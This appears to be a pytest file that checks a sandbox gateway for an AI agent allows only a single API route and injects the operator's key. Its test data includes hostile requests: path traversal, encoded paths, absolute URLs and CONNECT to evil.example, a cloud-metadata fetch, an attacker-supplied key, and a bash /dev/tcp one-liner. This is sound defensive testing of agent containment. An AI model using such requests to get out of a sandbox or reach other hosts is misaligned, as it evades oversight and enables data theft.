"""Row 2: what passes through the one way out. The control is a pipe to the same host."""

import asyncio
import contextlib
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from agents.attacks.table import attack
from fakes.loopback import Loopback, always, answer, loopback
from modules.autofix.adapters.sandbox.bubblewrap import PORT, Bubblewrap
from modules.autofix.adapters.sandbox.gateway import Route, gateway
from modules.autofix.adapters.sandbox.place import Place

KEY = "operators-key-7f3a9c51"
OTHERS = "attackers-key-0b2d"
REQUESTS = {
    "another path": "POST /v1/files HTTP/1.1",
    "another method": "PUT /v1/messages HTTP/1.1",
    "a longer path": "POST /v1/messages/batches HTTP/1.1",
    "up and down": "POST /v1/messages/../files HTTP/1.1",
    "spelled otherwise": "POST /v1/%6dessages HTTP/1.1",
    "the whole address": "POST http://evil.example/v1/messages HTTP/1.1",
    "another host's": "GET http://169.254.169.254/latest/meta-data HTTP/1.1",
    "CONNECT": "CONNECT evil.example:443 HTTP/1.1",
}
SPEAK = 'exec 3<>/dev/tcp/127.0.0.1/{port}; printf "$1" >&3; timeout 10 cat <&3'


@contextlib.asynccontextmanager
async def pipe(port: int) -> AsyncIterator[Path]:
    """A way out that looks at nothing."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        theirs, ours = await asyncio.open_connection("127.0.0.1", port)
        ours.write(await reader.readuntil(b"{}"))
        writer.write(await theirs.read())
        for one in (ours, writer):
            one.close()

    async with gateway(()) as path:
        there = path.with_name("pipe.sock")
        async with await asyncio.start_unix_server(serve, there):
            yield there


async def speak(held: bool, tree: Path, request: str, *headers: str) -> tuple[str, Loopback]:
    """What the program was told, and what arrived at the model's host."""
    lines = (request, "Host: api.example", *headers, "Content-Length: 2", "", "{}")
    async with loopback(always(answer(200, {"ok": 1}))) as host:
        route = Route(path="/v1/messages", upstream=host.url, headers={"x-api-key": KEY})
        way = gateway((route,)) if held else pipe(int(host.url.rpartition(":")[2]))
        async with way as path:
            argv = ("/bin/bash", "-c", SPEAK.format(port=PORT), "-", "\\r\\n".join(lines))
            place = Place(tree=tree, gateway=path)
            said = await Bubblewrap().run(argv, place, env={}, seconds=30)
    return said.text, host


@pytest.mark.parametrize("way", REQUESTS)
@attack(2, "another path or method, an absolute URL, CONNECT", by="exact route")
async def test_another_request(held: bool, way: str, tree: Path) -> None:
    said, host = await speak(held, tree, REQUESTS[way].replace("%", "%%"))

    assert bool(host.seen) is not held
    assert ("403" in said or "400" in said) is held


@attack(2, "the model's host with the attacker's own key", by="headers replaced")
async def test_a_key_of_the_attacker(held: bool, tree: Path) -> None:
    _, host = await speak(
        held,
        tree,
        "POST /v1/messages HTTP/1.1",
        f"x-api-key: {OTHERS}",
        f"Authorization: Bearer {OTHERS}",
    )

    (seen,) = host.seen
    assert (OTHERS in str(seen.headers)) is not held
    assert (seen.headers["x-api-key"] == KEY) is held
